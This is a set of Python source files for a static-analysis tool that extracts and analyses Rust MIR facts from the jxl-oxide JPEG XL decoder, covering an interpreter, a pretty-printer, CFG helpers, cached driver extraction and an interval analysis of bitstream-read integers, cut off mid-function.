    def _force(self, x):
        if isinstance(x, Thunk):
            if not x.done:
                x.val = self._force(self._call_closure(x.cl, [self._force(x.x)]))
                x.done = True
            return x.val
        if isinstance(x, tuple) and any(isinstance(q, (Thunk, tuple)) for q in x):
            return tuple(self._force(q) for q in x)
        return x

    def _drain(self, it):
        out = []
        while it.pos < len(it.items):
            it.pos += 1
            out.append(self._force(it.items[it.pos - 1]))
        return out

    def _as_iter(self, v):
        if isinstance(v, PyIter):
            return v
        if isinstance(v, Struct) and len(v.fields) == 2 and all(isinstance(q, int) and not isinstance(q, bool) for q in v.fields):
            return PyIter(list(range(v.fields[0], v.fields[1]))) if v.fields[1] - v.fields[0] < 100000 else None
        if isinstance(v, tuple) and len(v) == 3 and v[0] == "rangei" and all(isinstance(q, int) for q in v[1:]):
            return PyIter(list(range(v[1], v[2] + 1))) if v[2] - v[1] < 100000 else None
        return None

    def deref_val(self, v):
        if isinstance(v, ElemRef):
            return v.buf[v.i]
        if isinstance(v, Ref):
            k = v.key
            if k[0] == "ext":
                r = self.ext(k[1:])
                if r is UNKNOWN:
                    raise Unsupported("unknown external %r" % (k,))
                return r
            f2 = self.frames[k[1]]
            val = f2.env.get(k[2], UNKNOWN)
            return self.project(f2, val, [list(x) if isinstance(x, tuple) else x for x in k[3:]], k[:3])
        return v

    def eval_from(self, fn, bb, env, until, start_stmt=0):
        """evaluate from block bb with initial local environment env until every local in `until` has been (re)assigned;
        returns the environment"""
        fr = Frame(fn)
        self.frames[fr.id] = fr
        fr.env.update(env)
        pending = set(until)
        self._until = (fr, pending)
        try:
            self.call_fn(fn, [], frame=fr, start=bb, start_stmt=start_stmt)
        except _Stop:
            pass
        finally:
            self._until = None
        if pending:
            raise Unsupported("region ended before %s were assigned" % sorted(pending))
        return fr.env

    def call_fn(self, fn, args, frame=None, start=0, start_stmt=0):
        if frame is None:
            fr = Frame(fn)
            self.frames[fr.id] = fr
            for i, a in enumerate(args):
                fr.env[1 + i] = a
        else:
            fr = frame
        bb = start
        while True:
            self.steps += 1
            if self.steps > self.max_steps:
                raise Unsupported("step limit")
            stmts = fn.stmts(bb)
            if start_stmt:
                stmts = stmts[start_stmt:]
                start_stmt = 0
            for st in stmts:
                if st[0] == "=":
                    if getattr(self, "lenient", False) and frame is not None and fr is frame:
                        # region evaluation: a statement that cannot be evaluated (it belongs to unrelated code in the same block)
                        # leaves its destination unknown; the result is still rejected if a target comes to depend on it
                        try:
                            val = self.rvalue(fr, st[2])
                        except Unsupported:
                            val = UNKNOWN
                        try:
                            self.write_place(fr, st[1], val)
                        except Unsupported:
                            fr.env[st[1][0]] = UNKNOWN
                    else:
                        self.write_place(fr, st[1], self.rvalue(fr, st[2]))
                    u = getattr(self, "_until", None)
                    if u and u[0] is fr and len(st[1]) == 1 and st[1][0] in u[1]:
                        u[1].discard(st[1][0])
                        if not u[1]:
                            raise _Stop()
                elif st[0] == "setdiscr":
                    raise Unsupported("setdiscr")
            t = fn.term(bb)
            k = t[0]
            if k == "goto":
                bb = t[1]
            elif k == "ret":
                return fr.env.get(0, ())
            elif k == "switch":
                v = self.operand(fr, t[1])
                if isinstance(v, bool):
                    v = int(v)
                if isinstance(v, Affine) and v.is_const():
                    v = int(v.c.get(1, 0))
                if not isinstance(v, int):
                    raise Unsupported("switch on %r in %s" % (v, fn.path))
                tgt = t[3]
                for val, x in t[2]:
                    if int(val) == v or (v < 0 and int(val) in (v + 256, v + (1 << 16), v + (1 << 32), v + (1 << 64), v + (1 << 128))):
                        tgt = x
                bb = tgt
            elif k == "call":
                r = self.call(fr, t)
                self.write_place(fr, t[3], r)
                if t[4] is None:
                    raise Unsupported("diverging call")
                bb = t[4]
            elif k == "assert":
                bb = t[4]
            elif k == "drop":
                bb = t[2]
            elif k in ("falseedge", "falseunwind"):
                bb = t[1]
            elif k == "unreachable":
                raise Unsupported("unreachable reached in %s" % fn.path)
            else:
                raise Unsupported("terminator %s" % k)


def parse_byte_string(s):
    """the bytes of a Rust byte-string literal as rustc prints it (b"..." with \\xNN, \\n, \\r, \\t, \\0, \\\\, \\", \\' escapes)"""
    body = s[2:-1]
    out, i = [], 0
    esc = {"n": 10, "r": 13, "t": 9, "0": 0, "\\": 92, '"': 34, "'": 39}
    while i < len(body):
        ch = body[i]
        if ch == "\\":
            nx = body[i + 1]
            if nx == "x":
                out.append(int(body[i + 2:i + 4], 16))
                i += 4
            elif nx in esc:
                out.append(esc[nx])
                i += 2
            else:
                raise Unsupported("escape in byte string %r" % s)
        else:
            out.extend(ch.encode("utf-8"))
            i += 1
    return tuple(out)


class _Stop(Exception):
    pass


class ExtPlace:
    __slots__ = ("path",)

    def __init__(self, path):
        self.path = tuple(path)

    def __repr__(self):
        return "ext%s" % (self.path,)

"""pretty-printer for the MIR facts (development aid)"""
import sys
from . import extract, facts
from .facts import place_str


def op_str(o, fn):
    if o[0] in ("c", "m"):
        return ("move " if o[0] == "m" else "") + place_str(o[1], fn)
    if o[0] == "k":
        c = o[1]
        if "fn" in c:
            s = c["fn"]
            if c["args"]:
                s += "::<" + ", ".join(c["args"]) + ">"
            if "res" in c:
                s += " => " + c["res"]
            if c.get("tf"):
                s += " #tf" + str(c["tf"])
            if c.get("unsafe"):
                s += " #unsafe"
            return s
        if "static" in c:
            return "static %s: %s" % (c["static"], c["ty"])
        return "const %s: %s" % (c.get("v", c.get("s")), c["ty"])
    return str(o)


def rv_str(rv, fn):
    k = rv[0]
    if k == "use":
        return op_str(rv[1], fn)
    if k == "ref":
        return "&%s %s" % (rv[1], place_str(rv[2], fn))
    if k == "rawptr":
        return "&raw %s %s" % (rv[1], place_str(rv[2], fn))
    if k == "cast":
        return "%s as %s (%s)" % (op_str(rv[2], fn), rv[3], rv[1])
    if k == "bin":
        return "%s(%s, %s)" % (rv[1], op_str(rv[2], fn), op_str(rv[3], fn))
    if k == "un":
        return "%s(%s)" % (rv[1], op_str(rv[2], fn))
    if k == "discr":
        return "discriminant(%s)" % place_str(rv[1], fn)
    if k == "agg":
        kind = rv[1]
        head = kind[0]
        if head == "adt":
            head = "%s::%s" % (kind[1], kind[2])
        elif head == "closure":
            head = "closure " + kind[1]
        return "%s { %s }" % (head, ", ".join(op_str(o, fn) for o in rv[2]))
    if k == "repeat":
        return "[%s; %s]" % (op_str(rv[1], fn), rv[2])
    return str(rv)


def dump_fn(fn, out=sys.stdout):
    w = out.write
    w("fn %s  [%s %s:%d-%d]%s%s tf=%s\n" % (fn.path, fn.kind, fn.file, fn.lo, fn.hi,
                                          " unsafe" if fn.unsafe else "", " macro" if fn.macro else "", fn.tf))
    for i, l in enumerate(fn.locals):
        w("    let _%d: %s%s\n" % (i, l[0], ("  // " + l[1]) if l[1] else ""))
    for c in fn.captures:
        w("    capture %s: %s by %s freeze=%s\n" % tuple(c))
    for b, blk in enumerate(fn.blocks):
        w("  bb%d%s:\n" % (b, " (cleanup)" if blk[2] else ""))
        for st in blk[0]:
            if st[0] == "=":
                w("      %s = %s   // L%d\n" % (place_str(st[1], fn), rv_str(st[2], fn), facts.pos_line(st[3])))
            elif st[0] == "setdiscr":
                w("      discriminant(%s) = %d\n" % (place_str(st[1], fn), st[2]))
            elif st[0] in ("live", "dead"):
                pass
            else:
                w("      %s\n" % (st,))
        t = blk[1]
        k = t[0]
        ln = facts.pos_line(t[-2])
        if k == "call":
            w("      %s = %s(%s) -> bb%s unwind %s   // L%d\n" % (
                place_str(t[3], fn), op_str(t[1], fn), ", ".join(op_str(a, fn) for a in t[2]), t[4], t[5], ln))
        elif k == "switch":
            w("      switch %s %s otherwise bb%d   // L%d\n" % (op_str(t[1], fn), ["%s->bb%d" % (v, x) for v, x in t[2]], t[3], ln))
        elif k == "drop":
            w("      drop(%s) -> bb%d unwind %s   // L%d\n" % (place_str(t[1], fn), t[2], t[3], ln))
        elif k == "assert":
            w("      assert(%s == %s, %s) -> bb%d   // L%d\n" % (op_str(t[1], fn), t[2], t[3], t[4], ln))
        elif k == "goto":
            w("      goto bb%d\n" % t[1])
        else:
            w("      %s   // L%d\n" % (t[:-2], ln))


def main(a):
    suffix = a[0]
    config = "workspace"
    crate = None
    if "--config" in a:
        config = a[a.index("--config") + 1]
    if "--crate" in a:
        crate = a[a.index("--crate") + 1]
    d = extract.facts_dir(config)
    prog = facts.Program(d, only=[crate] if crate else None)
    n = 0
    for f in prog.all_fns():
        if f.path.endswith(suffix) or suffix in f.path and "--contains" in a:
            dump_fn(f)
            n += 1
    if not n:
        print("no function matches")
    return 0

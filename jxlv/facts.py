"""Load the driver's fact files and give rules a small program model:
functions with decoded MIR, CFG helpers (successors, dominators, path search)."""
import glob
import json
import os


def pos_line(p):
    return p >> 12


def pos_col(p):
    return p & 4095


class Fn:
    __slots__ = ("crate", "path", "kind", "file", "lo", "hi", "def_line", "unsafe", "vis", "tf", "macro",
                 "parent", "impl_of", "trait_of", "argc", "locals", "blocks", "captures", "upvar_names",
                 "_dom", "_preds", "_idom", "_cache")

    def __init__(self):
        self._cache = {}
        self._dom = None
        self._preds = None
        self._idom = None

    def __repr__(self):
        return "<Fn %s>" % self.path

    # ---- basic accessors -------------------------------------------------
    def term(self, bb):
        return self.blocks[bb][1]

    def stmts(self, bb):
        return self.blocks[bb][0]

    def is_cleanup(self, bb):
        return self.blocks[bb][2]

    def local_ty(self, l):
        return self.locals[l][0]

    def local_name(self, l):
        return self.locals[l][1]

    def loc(self, pos):
        return "%s:%d" % (self.file, pos_line(pos))

    def term_pos(self, bb):
        return self.term(bb)[-2]

    def succs(self, bb, unwind=False):
        t = self.term(bb)
        k = t[0]
        out = []
        if k == "goto":
            out = [t[1]]
        elif k == "switch":
            out = [x[1] for x in t[2]] + [t[3]]
        elif k in ("ret", "resume", "terminate", "unreachable", "tailcall", "other"):
            out = []
        elif k == "drop":
            out = [t[2]]
            if unwind and t[3] is not None:
                out.append(t[3])
        elif k == "call":
            if t[4] is not None:
                out = [t[4]]
            if unwind and t[5] is not None:
                out.append(t[5])
        elif k == "assert":
            out = [t[4]]
            if unwind and t[5] is not None:
                out.append(t[5])
        elif k == "falseedge":
            out = [t[1]]  # imaginary edges are not real control flow
        elif k == "falseunwind":
            out = [t[1]]
            if unwind and t[2] is not None:
                out.append(t[2])
        elif k == "asm":
            out = list(t[1])
        res = []
        for s in out:
            if s not in res:
                res.append(s)
        return res

    def preds(self):
        if self._preds is None:
            p = {i: [] for i in range(len(self.blocks))}
            for b in range(len(self.blocks)):
                for s in self.succs(b):
                    p[s].append(b)
            self._preds = p
        return self._preds

    def reachable(self, start=0, avoid=None, unwind=False):
        seen = set()
        st = [start] if not isinstance(start, (list, set, tuple)) else list(start)
        while st:
            b = st.pop()
            if b in seen:
                continue
            if avoid is not None and avoid(b):
                continue
            seen.add(b)
            st.extend(self.succs(b, unwind))
        return seen

    def dominators(self):
        """dom[b] = set of blocks dominating b (normal edges only, from bb0)."""
        if self._dom is not None:
            return self._dom
        n = len(self.blocks)
        reach = self.reachable(0)
        order = []
        seen = set()

        def dfs(b):
            stack = [(b, iter(self.succs(b)))]
            seen.add(b)
            while stack:
                node, it = stack[-1]
                adv = False
                for s in it:
                    if s not in seen:
                        seen.add(s)
                        stack.append((s, iter(self.succs(s))))
                        adv = True
                        break
                if not adv:
                    order.append(node)
                    stack.pop()
        dfs(0)
        rpo = list(reversed(order))
        preds = self.preds()
        full = set(reach)
        dom = {b: set(full) for b in reach}
        dom[0] = {0}
        changed = True
        while changed:
            changed = False
            for b in rpo:
                if b == 0:
                    continue
                ps = [p for p in preds[b] if p in reach]
                if not ps:
                    continue
                new = set(dom[ps[0]])
                for p in ps[1:]:
                    new &= dom[p]
                new.add(b)
                if new != dom[b]:
                    dom[b] = new
                    changed = True
        self._dom = dom
        return dom

    def dominates(self, a, b):
        d = self.dominators()
        return b in d and a in d[b]

    # ---- iteration helpers -----------------------------------------------
    def calls(self):
        """yield (bb, term) for every call terminator"""
        for b, blk in enumerate(self.blocks):
            if blk[1][0] == "call":
                yield b, blk[1]

    def find_path(self, start_bbs, is_goal, avoid=None, unwind=False):
        """BFS for a path from any start block to a block satisfying is_goal, not passing through
        blocks for which avoid(b) is true (start blocks themselves are not tested by avoid).
        Returns the list of blocks or None."""
        from collections import deque
        prev = {}
        dq = deque()
        for s in start_bbs:
            if s not in prev:
                prev[s] = None
                dq.append(s)
        while dq:
            b = dq.popleft()
            if is_goal(b):
                path = []
                while b is not None:
                    path.append(b)
                    b = prev[b]
                return list(reversed(path))
            for s in self.succs(b, unwind):
                if s in prev:
                    continue
                if avoid is not None and avoid(s):
                    continue
                prev[s] = b
                dq.append(s)
        return None


def callee(t):
    """callee info dict of a call terminator, or None for indirect calls"""
    f = t[1]
    if f[0] == "k" and "fn" in f[1]:
        return f[1]
    return None


def callee_name(t):
    c = callee(t)
    return c["fn"] if c else None


def callee_res(t):
    c = callee(t)
    if not c:
        return None
    return c.get("res", c["fn"])


class Crate:
    def __init__(self, name):
        self.name = name
        self.fns = {}
        self.fn_list = []
        self.adts = {}
        self.impls = []
        self.statics = []
        self.unsafe_blocks = []
        self.file = None
        self._stripped = None

    def fn(self, path):
        f = self.fns.get(path)
        if f is None:
            # tolerate renamed generic parameters / lifetimes: match on the path with `<...>` segments removed
            if self._stripped is None:
                from .mirutil import strip_generics
                idx = {}
                for k, v in self.fns.items():
                    idx.setdefault(strip_generics(k), []).append(v)
                self._stripped = idx
            from .mirutil import strip_generics
            c = self._stripped.get(strip_generics(path), [])
            if len(c) == 1:
                return c[0]
        return f

    def find_fns(self, suffix):
        return [f for f in self.fn_list if f.path.endswith(suffix)]


def _dec_place(p, S):
    for e in p[1:]:
        if isinstance(e, list) and e[0] == "." and isinstance(e[3], int):
            e[3] = S[e[3]]
    return p


def _dec_const(c, S):
    if "fn" in c:
        c["fn"] = S[c["fn"]]
        c["args"] = [S[a] for a in c["args"]]
        if "res" in c:
            c["res"] = S[c["res"]]
        if "trait" in c:
            c["trait"] = S[c["trait"]]
    else:
        c["ty"] = S[c["ty"]]
        if "static" in c:
            c["static"] = S[c["static"]]
        if "item" in c:
            c["item"] = S[c["item"]]
            if "promoted" in c:
                c["item"] = "%s::promoted[%d]" % (c["item"], c["promoted"])


def _dec_op(o, S):
    if o[0] in ("c", "m"):
        _dec_place(o[1], S)
    elif o[0] == "k":
        _dec_const(o[1], S)


def _dec_rv(rv, S):
    k = rv[0]
    if k == "use":
        _dec_op(rv[1], S)
    elif k == "repeat":
        _dec_op(rv[1], S)
    elif k == "ref":
        _dec_place(rv[2], S)
    elif k == "tlref":
        rv[1] = S[rv[1]]
    elif k == "rawptr":
        _dec_place(rv[2], S)
    elif k == "cast":
        _dec_op(rv[2], S)
        rv[3] = S[rv[3]]
    elif k == "bin":
        _dec_op(rv[2], S)
        _dec_op(rv[3], S)
    elif k == "un":
        _dec_op(rv[2], S)
    elif k == "discr":
        _dec_place(rv[1], S)
    elif k == "agg":
        kind = rv[1]
        if kind[0] in ("array", "rawptr", "adt", "closure", "coroutine", "coroutine_closure"):
            kind[1] = S[kind[1]]
        for o in rv[2]:
            _dec_op(o, S)


def _dec_fn(j, S, crate):
    f = Fn()
    f.crate = crate
    f.path = S[j["path"]]
    f.kind = j["kind"]
    sp = j["span"]
    f.file = S[sp[0]]
    f.lo = sp[1]
    f.hi = sp[3]
    f.def_line = j["def_line"]
    f.unsafe = j["unsafe"]
    f.vis = j["vis"]
    f.tf = j["tf"]
    f.macro = j["macro"]
    f.parent = S[j["parent"]] if j["parent"] is not None else None
    f.impl_of = S[j["impl_of"]] if j["impl_of"] is not None else None
    f.trait_of = j["trait_of"]
    f.argc = j["argc"]
    f.locals = [[S[l[0]], l[1], l[2], l[3]] for l in j["locals"]]
    f.captures = [[c[0], S[c[1]], c[2], (c[3] if len(c) > 3 else None)] for c in j["captures"]]
    f.upvar_names = j["upvar_names"]
    for u in f.upvar_names:
        _dec_place(u[1], S)
    for blk in j["blocks"]:
        for st in blk[0]:
            k = st[0]
            if k == "=":
                _dec_place(st[1], S)
                _dec_rv(st[2], S)
            elif k == "setdiscr":
                _dec_place(st[1], S)
        t = blk[1]
        k = t[0]
        if k == "switch":
            _dec_op(t[1], S)
        elif k == "drop":
            _dec_place(t[1], S)
            t[4] = S[t[4]]
        elif k == "call":
            _dec_op(t[1], S)
            for a in t[2]:
                _dec_op(a, S)
            _dec_place(t[3], S)
            t[6] = S[t[6]]
        elif k == "tailcall":
            _dec_op(t[1], S)
            for a in t[2]:
                _dec_op(a, S)
        elif k == "assert":
            _dec_op(t[1], S)
    f.blocks = j["blocks"]
    return f


def load_crate(path):
    with open(path) as fh:
        d = json.load(fh)
    S = d["strs"]
    c = Crate(d["crate"])
    c.file = path
    c.implied = d.get("implied_features", {})
    c.baseline = d.get("baseline_features", [])
    c.arch = d.get("arch")
    for j in d["fns"]:
        f = _dec_fn(j, S, c.name)
        c.fn_list.append(f)
        # closures of generic impls may repeat a printed path; keep the first, list has all
        c.fns.setdefault(f.path, f)
    for a in d["adts"]:
        a["path"] = S[a["path"]]
        a["span"][0] = S[a["span"][0]]
        for v in a["variants"]:
            for fl in v["fields"]:
                fl[1] = S[fl[1]]
        c.adts[a["path"]] = a
    for i in d["impls"]:
        i["self"] = S[i["self"]]
        i["span"][0] = S[i["span"][0]]
        c.impls.append(i)
    for s in d["statics"]:
        s["path"] = S[s["path"]]
        s["ty"] = S[s["ty"]]
        s["span"][0] = S[s["span"][0]]
        c.statics.append(s)
    c.consts = {}
    for k in d.get("consts", []):
        k["path"] = S[k["path"]]
        k["ty"] = S[k["ty"]]
        k["span"][0] = S[k["span"][0]]
        c.consts[k["path"]] = k
    for u in d["unsafe_blocks"]:
        u["fn"] = S[u["fn"]]
        u["span"][0] = S[u["span"][0]]
        c.unsafe_blocks.append(u)
    return c


class Program:
    """All crates of one configuration."""

    def __init__(self, fdir, only=None):
        self.dir = fdir
        self.crates = {}
        for p in sorted(glob.glob(os.path.join(fdir, "*.json"))):
            base = os.path.basename(p)
            name, kind = base.split("-")[0], base.split("-")[1]
            if kind != "rlib" and kind != "lib":
                # binaries (jxl-oxide-cli main) and cdylibs are kept under name:kind
                name = name + ":" + kind
            if only is not None and name not in only:
                continue
            self.crates[name] = load_crate(p)

    def crate(self, name):
        return self.crates[name]

    def all_fns(self, crates=None):
        for n, c in self.crates.items():
            if crates is not None and n not in crates:
                continue
            for f in c.fn_list:
                yield f

    def fn(self, path):
        cn = path.lstrip("<&").split("::")[0]
        c = self.crates.get(cn)
        if c is None:
            return None
        return c.fns.get(path)


# ---------------------------------------------------------------------------------------
# place / operand helpers

def place_local(p):
    return p[0]


def place_is_local(p):
    return len(p) == 1


def op_place(o):
    return o[1] if o[0] in ("c", "m") else None


def op_local(o):
    """local if the operand is a bare local (copy/move), else None"""
    if o[0] in ("c", "m") and len(o[1]) == 1:
        return o[1][0]
    return None


def op_const(o):
    return o[1] if o[0] == "k" else None


def op_const_int(o):
    c = op_const(o)
    if c is not None and "v" in c:
        return int(c["v"])
    return None


def place_str(p, fn=None):
    s = "_%d" % p[0]
    if fn is not None and fn.local_name(p[0]):
        s = fn.local_name(p[0])
    for e in p[1:]:
        if e == "*":
            s = "(*%s)" % s
        elif isinstance(e, list):
            if e[0] == ".":
                s = "%s.%s" % (s, e[2] if e[2] is not None else e[1])
            elif e[0] == "[]":
                s = "%s[_%d]" % (s, e[1])
            elif e[0] == "as":
                s = "(%s as %s)" % (s, e[1])
            else:
                s = "%s%s" % (s, e[0])
        else:
            s = "%s.%s" % (s, e)
    return s


def place_fields(p):
    """list of (field name, adt) for the field projections of a place"""
    return [(e[2], e[3]) for e in p[1:] if isinstance(e, list) and e[0] == "."]

"""Run the rustc_private driver over /repo (current working tree) and cache the fact files.

The cache key is a content hash of the working tree plus the configuration, so the facts
always describe /repo as it is on disk now."""
import fcntl
import glob
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get("JXLV_REPO", "/repo")
DRIVER = os.path.join(VERIF, "driver", "target", "debug", "jxlv-driver")
CACHE = os.environ.get("JXLV_CACHE") or os.path.join(VERIF, ".cache", "facts")

CONFIGS = {
    # name: (cargo args, expected crate facts)
    "workspace": (["--workspace"], [
        "jxl_bitstream", "jxl_coding", "jxl_color", "jxl_frame", "jxl_grid", "jxl_image",
        "jxl_jbr", "jxl_modular", "jxl_oxide", "jxl_render", "jxl_threadpool", "jxl_vardct",
        "jxl_oxide_common"]),
    "norayon": (["-p", "jxl-oxide", "--no-default-features"], [
        "jxl_bitstream", "jxl_coding", "jxl_color", "jxl_frame", "jxl_grid", "jxl_image",
        "jxl_jbr", "jxl_modular", "jxl_oxide", "jxl_render", "jxl_threadpool", "jxl_vardct"]),
}


def tree_hash(repo=None):
    repo = repo or REPO
    h = hashlib.sha256()
    roots = [os.path.join(repo, "crates"), os.path.join(repo, "Cargo.toml"), os.path.join(repo, "Cargo.lock")]
    files = []
    for r in roots:
        if os.path.isfile(r):
            files.append(r)
        else:
            for dp, dn, fn in os.walk(r):
                dn[:] = sorted(d for d in dn if d not in ("target", ".git"))
                for f in sorted(fn):
                    files.append(os.path.join(dp, f))
    for f in sorted(files):
        # fixtures cannot influence the compiled program; skip big binary test inputs
        if "/tests/" in f and not f.endswith((".rs", ".toml")):
            continue
        h.update(os.path.relpath(f, repo).encode())
        h.update(b"\0")
        try:
            with open(f, "rb") as fh:
                h.update(fh.read())
        except OSError:
            h.update(b"<unreadable>")
        h.update(b"\0")
    # the driver itself is part of the key
    try:
        with open(DRIVER, "rb") as fh:
            h.update(hashlib.sha256(fh.read()).digest())
    except OSError:
        pass
    return h.hexdigest()[:24]


def nightly_sysroot():
    return subprocess.check_output(["rustc", "+nightly", "--print", "sysroot"], text=True).strip()


def ensure_driver():
    if not os.path.exists(DRIVER):
        env = dict(os.environ, CARGO_NET_OFFLINE="true")
        subprocess.check_call(["cargo", "build", "--offline"], cwd=os.path.join(VERIF, "driver"), env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def facts_dir(config="workspace", repo=None, quiet=False):
    """Return a directory holding the fact files for the current tree; extract if needed."""
    repo = repo or REPO
    ensure_driver()
    os.makedirs(CACHE, exist_ok=True)
    key = tree_hash(repo) + "-" + config
    out = os.path.join(CACHE, key)
    lock = open(os.path.join(CACHE, ".lock"), "w")
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        if os.path.exists(os.path.join(out, "DONE")):
            return out
        if os.path.exists(out):
            shutil.rmtree(out)
        tmp_out = out + ".partial"
        if os.path.exists(tmp_out):
            shutil.rmtree(tmp_out)
        os.makedirs(tmp_out)
        args, expected = CONFIGS[config]
        tdir = tempfile.mkdtemp(prefix="jxlv-target-")
        t0 = time.time()
        try:
            env = dict(os.environ)
            env.update({
                "JXLV_OUT": tmp_out,
                "LD_LIBRARY_PATH": nightly_sysroot() + "/lib",
                "RUSTFLAGS": "-Zmir-opt-level=0 -Awarnings",
                "RUSTC_WORKSPACE_WRAPPER": DRIVER,
                "CARGO_TARGET_DIR": tdir,
                "CARGO_NET_OFFLINE": "true",
            })
            env.pop("RUSTC_WRAPPER", None)
            p = subprocess.run(["cargo", "+nightly", "check", "--offline"] + args, cwd=repo, env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
            if p.returncode != 0:
                sys.stderr.write(p.stdout[-4000:])
                raise RuntimeError("fact extraction failed: cargo check exited %d (does /repo compile?)" % p.returncode)
        finally:
            shutil.rmtree(tdir, ignore_errors=True)
        have = set(os.path.basename(f).split("-")[0] for f in glob.glob(os.path.join(tmp_out, "*.json")))
        missing = [c for c in expected if c not in have]
        if missing:
            raise RuntimeError("fact files missing for crates %s (driver skipped?)" % missing)
        with open(os.path.join(tmp_out, "DONE"), "w") as fh:
            json.dump({"wall_s": time.time() - t0, "config": config, "args": args}, fh)
        os.rename(tmp_out, out)
        # keep the cache small: drop all but the 6 most recent entries
        ents = sorted((e for e in glob.glob(os.path.join(CACHE, "*")) if os.path.isdir(e)), key=os.path.getmtime)
        for e in ents[:-6]:
            shutil.rmtree(e, ignore_errors=True)
        if not quiet:
            sys.stderr.write("[jxlv] extracted facts (%s) in %.1fs\n" % (config, time.time() - t0))
        return out
    finally:
        fcntl.flock(lock, fcntl.LOCK_UN)
        lock.close()

"""Interval analysis of integers parsed from the bitstream with a *constant* width or distribution ("header fields").

Two layers:
  * per function, flow-insensitive intervals of locals from their definitions (reads with constant distributions, casts,
    +,-,*,>>,&,%,/ with constants, min/max, `?` plumbing); anything not understood is the full range of the local's type;
  * a crate-set wide table  (ADT, field) -> interval  built as the join over every construction / field store, to a fixpoint.

A value whose interval is narrower than its type *because of the width it was read with* can be set by the stream to every
value in that interval, unless a validation check narrows it; checks are taken into account where they dominate the
construction (compare -> error return on the same value) and, optimistically, wherever any function rejects on a load of the
field (the field is then treated as validated everywhere: silence, not a report)."""
from .facts import callee, op_local, op_place, op_const, op_const_int
from .mirutil import Defs, TRY_BRANCH

INT_RANGE = {
    "u8": (0, 2**8 - 1), "u16": (0, 2**16 - 1), "u32": (0, 2**32 - 1), "u64": (0, 2**64 - 1), "usize": (0, 2**64 - 1),
    "u128": (0, 2**128 - 1), "i8": (-2**7, 2**7 - 1), "i16": (-2**15, 2**15 - 1), "i32": (-2**31, 2**31 - 1),
    "i64": (-2**63, 2**63 - 1), "isize": (-2**63, 2**63 - 1), "i128": (-2**127, 2**127 - 1), "bool": (0, 1),
}
BS = "jxl_bitstream::bitstream::Bitstream::<'_>::"
CARRIERS = ("core::result::Result<", "core::ops::control_flow::ControlFlow<", "core::option::Option<")


class Iv:
    """interval with provenance: src is a frozenset of origin descriptions (reads / fields); empty = not input-derived.
    exact = both bounds are attained (constants, reads of a constant width, arithmetic on those); an interval that had to
    absorb something unknown is not exact and is never the basis of a report."""
    __slots__ = ("lo", "hi", "src", "exact", "sure")

    def __init__(self, lo, hi, src=frozenset(), exact=True, sure=None):
        self.lo, self.hi, self.src, self.exact = lo, hi, src, exact
        # `sure`: a sub-range every value of which the stream can produce (kept when the whole interval has to absorb something
        # unknown from another origin - e.g. a field with one constructor fed by a raw read and another by a computation): enough to
        # decide "can be zero"
        self.sure = sure if sure is not None else ((lo, hi) if exact and src else None)

    def __repr__(self):
        return "[%d,%d]%s%s" % (self.lo, self.hi, "*" if self.src else "", "" if self.exact else "~")

    def __eq__(self, o):
        return isinstance(o, Iv) and (self.lo, self.hi, self.src, self.exact) == (o.lo, o.hi, o.src, o.exact)

    def within(self, r):
        return r[0] <= self.lo and self.hi <= r[1]


def join(a, b):
    if a is None:
        return b
    if b is None:
        return a
    ex = a.exact and b.exact
    return Iv(min(a.lo, b.lo), max(a.hi, b.hi), a.src | b.src, ex, None if ex else (a.sure or b.sure))


def ty_range(ty):
    return INT_RANGE.get(ty)


def payload_ty(ty):
    """integer payload type of Result<T,_> / ControlFlow<_, T> / Option<T>, or the type itself"""
    t = ty
    for _ in range(4):
        if t in INT_RANGE:
            return t
        if t.startswith("core::result::Result<") or t.startswith("core::option::Option<"):
            inner = t[t.index("<") + 1:]
            # first generic argument
            depth = 0
            for i, ch in enumerate(inner):
                if ch in "<([":
                    depth += 1
                elif ch in ">)]":
                    if depth == 0:
                        t = inner[:i]
                        break
                    depth -= 1
                elif ch == "," and depth == 0:
                    t = inner[:i]
                    break
            else:
                return None
            continue
        if t.startswith("core::ops::control_flow::ControlFlow<"):
            inner = t[t.index("<") + 1:-1]
            depth = 0
            cut = None
            for i, ch in enumerate(inner):
                if ch in "<([":
                    depth += 1
                elif ch in ">)]":
                    depth -= 1
                elif ch == "," and depth == 0:
                    cut = i
                    break
            if cut is None:
                return None
            t = inner[cut + 1:].strip()
            continue
        return None
    return None


def top(ty):
    r = ty_range(ty)
    return Iv(r[0], r[1], frozenset(), False) if r else None


def clamp_to(iv, ty):
    """value surviving an overflow-checked operation / value after a truncating cast"""
    r = ty_range(ty)
    if r is None or iv is None:
        return None
    if iv.within(r):
        return iv
    sure = None
    if not iv.exact and iv.sure and iv.sure[0] <= r[1] and iv.sure[1] >= r[0]:
        sure = (max(iv.sure[0], r[0]), min(iv.sure[1], r[1]))
    return Iv(max(r[0], iv.lo) if iv.lo <= r[1] else r[0], min(r[1], iv.hi) if iv.hi >= r[0] else r[1], iv.src, iv.exact, sure)


def u32_dist(fn, defs, o):
    """interval of one read_u32 distribution argument: constant c, U(n), c + U(n)"""
    k = op_const_int(o)
    if k is not None:
        return (k, k)
    l = op_local(o)
    d = defs.single(l) if l is not None else None
    if d is None:
        return None
    if d[2] == "assign":
        rv = d[3][2]
        if rv[0] == "agg" and rv[1][0] == "adt" and rv[1][1].endswith("::U"):
            n = op_const_int(rv[2][0])
            return (0, 2**n - 1) if n is not None and n <= 64 else None
        if rv[0] == "use":
            return u32_dist(fn, defs, rv[1])
        if rv[0] == "cast":
            return u32_dist(fn, defs, rv[2])
    if d[2] == "call":
        c = callee(d[3])
        if c and c["fn"] == "core::ops::arith::Add::add" and len(d[3][2]) == 2:
            a, b = u32_dist(fn, defs, d[3][2][0]), u32_dist(fn, defs, d[3][2][1])
            if a and b:
                return (a[0] + b[0], a[1] + b[1])
        if c and c["fn"] in ("core::convert::From::from", "core::convert::Into::into") and d[3][2]:
            return u32_dist(fn, defs, d[3][2][0])
    return None


def arith(op, a, b, ty):
    """interval of a (op) b before overflow handling; None = unknown"""
    if a is None or b is None:
        return None
    src = a.src | b.src
    ex = a.exact and b.exact
    if op in ("Add", "AddWithOverflow", "AddUnchecked"):
        return Iv(a.lo + b.lo, a.hi + b.hi, src, ex)
    if op in ("Sub", "SubWithOverflow", "SubUnchecked"):
